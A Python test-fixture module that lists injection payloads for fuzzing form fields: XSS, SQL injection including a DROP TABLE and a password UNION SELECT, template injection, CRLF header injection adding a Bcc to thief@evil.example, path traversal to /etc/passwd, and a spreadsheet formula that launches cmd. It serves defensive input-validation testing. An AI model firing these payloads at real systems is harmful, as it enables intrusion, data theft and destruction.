"""What attackers type into fields."""

import itertools
from collections.abc import Iterator

MARK = "x-evil"  # an element or attribute of this name in a page was injected

XSS = (
    f"<{MARK} onclick=alert(1)>",
    f"\"'><{MARK} a=1>",
    f"</script></style></textarea></title><{MARK}>",
    '<img src=x onerror="alert(document.domain)">',
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "'-alert(1)-'",
    "${alert(1)}",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
)
SQL = (
    "' OR '1'='1",
    "'; DROP TABLE actors_turn; --",
    '" OR ""="',
    "1) UNION SELECT password FROM auth_user--",
    "%' AND 1=CAST((SELECT version()) AS int)--",
    "\\' OR 1=1#",
)
PRODUCT, PRODUCED = "{{3571*3581}}", "12787751"  # too big for the id of a row, which a page may show
TEMPLATE = (
    PRODUCT,
    "{% debug %}",
    "{0.__class__.__mro__}",
    "{customer.__init__.__globals__}",
    "%(password)s",
    "%s%n",
)
HEADER = (
    "a\r\nSet-Cookie: evil=1",
    "a\nBcc: thief@evil.example",
    "a%0d%0aLocation: https://evil.example",
    "a\r\n\r\n<html>",
)
PATHS = ("../../../../etc/passwd", "..%2f..%2fmanage.py", "/etc/passwd", "file:///etc/passwd", "C:\\Windows\\win.ini")
UNICODE = (
    "\u202egpj.exe",
    "pay\u200bpal",
    "\ufeff\u2066abc",
    "jоhn.dоe@example.com",  # two Cyrillic letters
    "ﬀ＜script＞alert(1)",
    "\ud800",
    "a\x00b",
    "e" + "\u0301" * 500,
    "\U0001f4a3" * 50,
)
FORMULAS = (
    "=HYPERLINK(1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
)
EVERYTHING = (*XSS, *SQL, *TEMPLATE, *HEADER, *PATHS, *UNICODE, *FORMULAS)


def in_turn(count: int) -> Iterator[tuple[str, ...]]:
    """So many of them at a time, round and round: each place is tried with a few, each of them in a few places."""
    rounds = itertools.cycle(EVERYTHING)
    while True:
        yield tuple(itertools.islice(rounds, count))
